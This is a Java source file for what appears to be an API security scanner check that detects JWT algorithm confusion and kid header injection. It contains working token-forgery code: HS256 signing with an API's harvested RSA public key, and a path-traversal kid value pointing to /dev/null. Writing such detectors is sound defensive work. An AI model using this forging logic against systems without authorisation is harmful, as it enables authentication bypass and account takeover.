package io.ventiapi.engine.check.auth;

import io.ventiapi.engine.Confidence;
import io.ventiapi.engine.Evidence;
import io.ventiapi.engine.OwaspCategory;
import io.ventiapi.engine.Severity;
import io.ventiapi.engine.check.Baseline;
import io.ventiapi.engine.check.Check;
import io.ventiapi.engine.check.Rule;
import io.ventiapi.engine.check.ScanContext;
import io.ventiapi.engine.http.ProbeRequest;
import io.ventiapi.engine.http.ProbeResponse;
import io.ventiapi.engine.http.Redactor;
import io.ventiapi.engine.identity.Credentials;
import io.ventiapi.engine.identity.IdentitySession;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.KeyFactory;
import java.security.spec.RSAPublicKeySpec;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Comparator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.UUID;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ObjectNode;

/**
 * API2, forged tokens the verifier trusts because of how it picks its key: RS256→HS256 algorithm confusion (an
 * HS256 token whose HMAC secret is the API's own RSA public key, taken from a JWKS or PEM the API exposes) and
 * {@code kid} injection (a {@code kid} naming {@code /dev/null}, signed with an empty key). Each forged token must
 * be accepted while the same token signed with a random key is refused.
 */
public final class JwtKeyConfusionCheck implements Check {

    private static final String REMEDIATION = "Pin the expected algorithm per key when verifying (never take it from "
            + "the token header), and look keys up by kid only in a fixed key set, never as a path or query.";
    static final Rule ALGORITHM_CONFUSION = new Rule(
            "auth.jwt-algorithm-confusion",
            "JWT algorithm confusion (RS256 public key accepted as HS256 secret)",
            OwaspCategory.API2,
            327,
            Severity.CRITICAL,
            "The API accepts HS256 tokens signed with its own public RSA key as the HMAC secret: anyone can forge tokens, since the key is public.",
            REMEDIATION);
    static final Rule KID_INJECTION = new Rule(
            "auth.jwt-kid-injection",
            "JWT kid header injection",
            OwaspCategory.API2,
            347,
            Severity.CRITICAL,
            "The API resolves the token's kid header as a file path (or query), so a kid pointing at an empty file makes an empty key valid: anyone can forge tokens.",
            REMEDIATION);

    private static final JsonMapper JSON = JsonMapper.builder().build();
    private static final Base64.Encoder B64 = Base64.getUrlEncoder().withoutPadding();
    private static final Pattern PEM =
            Pattern.compile("-----BEGIN PUBLIC KEY-----[A-Za-z0-9+/=\\s\\\\n]+-----END PUBLIC KEY-----");
    private static final List<String> KEY_PATHS = List.of("/.well-known/jwks.json", "/jwks.json", "/.well-known/keys");
    private static final String KID_PATH = "../../../../../../../../../../dev/null";

    @Override
    public List<Rule> rules() {
        return List.of(ALGORITHM_CONFUSION, KID_INJECTION);
    }

    @Override
    public void checkTarget(ScanContext context) {
        for (IdentitySession session : context.sessions()) {
            Optional<BrokenAuthenticationCheck.Jwt> jwt =
                    BrokenAuthenticationCheck.Jwt.parse(session.credentials().bearerToken());
            if (jwt.isEmpty()) {
                continue;
            }
            List<Baseline> references = context.baselines().stream()
                    .filter(b -> b.identity() == session
                            && b.operation().method().equals("GET")
                            && b.response().isSuccess()
                            && context.requiresAuthentication(b))
                    .sorted(Comparator.comparing((Baseline b) -> b.operation().pathTemplate()))
                    .toList();
            if (references.isEmpty()) {
                continue;
            }
            Map<String, String> keys = publicKeys(context);
            for (Map.Entry<String, String> key : keys.entrySet()) {
                boolean found = false;
                for (String variant : List.of(key.getValue(), key.getValue().stripTrailing())) {
                    ObjectNode header = header(jwt.get());
                    if (tryForged(
                            context,
                            session,
                            jwt.get(),
                            references,
                            header,
                            variant.getBytes(StandardCharsets.US_ASCII),
                            ALGORITHM_CONFUSION,
                            "an HS256 token signed with the API's RSA public key (from " + key.getKey()
                                    + ", PEM text" + (variant.endsWith("\n") ? " with" : " without")
                                    + " the final newline) as the HMAC secret")) {
                        found = true;
                        break;
                    }
                }
                if (found) {
                    break;
                }
            }
            ObjectNode kidHeader = header(jwt.get());
            kidHeader.put("kid", KID_PATH);
            tryForged(
                    context,
                    session,
                    jwt.get(),
                    references,
                    kidHeader,
                    new byte[] {0},
                    KID_INJECTION,
                    "an HS256 token with kid '" + KID_PATH + "' signed with an empty key");
            return;
        }
    }

    private static ObjectNode header(BrokenAuthenticationCheck.Jwt jwt) {
        ObjectNode header = JSON.createObjectNode();
        header.put("alg", "HS256");
        header.put("typ", "JWT");
        return header;
    }

    private static boolean tryForged(
            ScanContext context,
            IdentitySession session,
            BrokenAuthenticationCheck.Jwt jwt,
            List<Baseline> references,
            ObjectNode header,
            byte[] key,
            Rule rule,
            String what) {
        ObjectNode claims = jwt.payload().deepCopy();
        claims.put("jti", UUID.randomUUID().toString());
        claims.put("iat", Instant.now().getEpochSecond());
        claims.put("exp", Instant.now().getEpochSecond() + 3600);
        String forged = sign(header, claims, key);
        byte[] random = UUID.randomUUID().toString().getBytes(StandardCharsets.US_ASCII);
        String control = sign(header, claims, random);
        Credentials real = session.credentials();
        for (Baseline reference : references.subList(0, Math.min(3, references.size()))) {
            ProbeResponse refused = context.send(reference.request(), real.withToken(control));
            if (context.servedLike(reference, refused)) {
                continue; // no signature check on this operation at all: another rule's finding
            }
            ProbeResponse accepted = context.send(reference.request(), real.withToken(forged));
            if (!context.servedLike(reference, accepted)) {
                continue;
            }
            ProbeResponse again = context.send(reference.request(), real.withToken(forged));
            if (!context.servedLike(reference, again)) {
                continue;
            }
            context.report(rule.targetWideFinding(
                    Confidence.CONFIRMED,
                    reference.operation().method(),
                    reference.operation().pathTemplate(),
                    null,
                    new Evidence(
                            List.of(Redactor.excerpt(accepted), Redactor.excerpt(refused)),
                            "Sent with " + what + " (claims of identity '" + session.label() + "' with a new jti, "
                                    + "iat and exp), the operation answered HTTP " + accepted.status()
                                    + ", twice (first exchange); the same token signed with a random key was refused "
                                    + "with HTTP " + refused.status() + " (second exchange).")));
            return true;
        }
        return false;
    }

    /** Public RSA keys as PEM text, by where they were found: JWKS or PEM in answers, or well-known JWKS paths. */
    private static Map<String, String> publicKeys(ScanContext context) {
        Map<String, String> keys = new LinkedHashMap<>();
        for (Baseline baseline : context.baselines()) {
            if (baseline.response().isSuccess()) {
                collect(
                        baseline.response(),
                        baseline.operation().method() + " "
                                + baseline.operation().pathTemplate(),
                        keys);
            }
        }
        if (keys.isEmpty()) {
            for (String path : KEY_PATHS) {
                ProbeResponse response = context.target()
                        .send(new ProbeRequest("GET", path, Map.of("Accept", "application/json"), null));
                if (response.isSuccess()) {
                    collect(response, "GET " + path, keys);
                }
            }
        }
        return keys;
    }

    private static void collect(ProbeResponse response, String where, Map<String, String> keys) {
        Matcher pem = PEM.matcher(response.bodyText());
        if (pem.find()) {
            String text = pem.group().replace("\\n", "\n");
            keys.put(where, text.endsWith("\n") ? text : text + "\n");
        }
        JsonNode json = response.json().orElse(null);
        if (json == null || !json.path("keys").isArray()) {
            return;
        }
        List<JsonNode> jwks = new ArrayList<>();
        json.path("keys").forEach(jwks::add);
        for (JsonNode jwk : jwks) {
            if (!"RSA".equals(jwk.path("kty").asString("")) || !jwk.has("n") || !jwk.has("e")) {
                continue;
            }
            try {
                BigInteger n = new BigInteger(
                        1, Base64.getUrlDecoder().decode(jwk.path("n").asString()));
                BigInteger e = new BigInteger(
                        1, Base64.getUrlDecoder().decode(jwk.path("e").asString()));
                byte[] der = KeyFactory.getInstance("RSA")
                        .generatePublic(new RSAPublicKeySpec(n, e))
                        .getEncoded();
                String body = Base64.getMimeEncoder(64, "\n".getBytes(StandardCharsets.US_ASCII))
                        .encodeToString(der);
                keys.put(
                        where + " (kid " + jwk.path("kid").asString("-") + ")",
                        "-----BEGIN PUBLIC KEY-----\n" + body + "\n-----END PUBLIC KEY-----\n");
            } catch (GeneralSecurityException | IllegalArgumentException ex) {
                // not a usable RSA key
            }
        }
    }

    private static String sign(ObjectNode header, ObjectNode claims, byte[] key) {
        String input = B64.encodeToString(JSON.writeValueAsBytes(header)) + "."
                + B64.encodeToString(JSON.writeValueAsBytes(claims));
        try {
            Mac mac = Mac.getInstance("HmacSHA256");
            mac.init(new SecretKeySpec(key, "HmacSHA256"));
            return input + "." + B64.encodeToString(mac.doFinal(input.getBytes(StandardCharsets.US_ASCII)));
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }
}
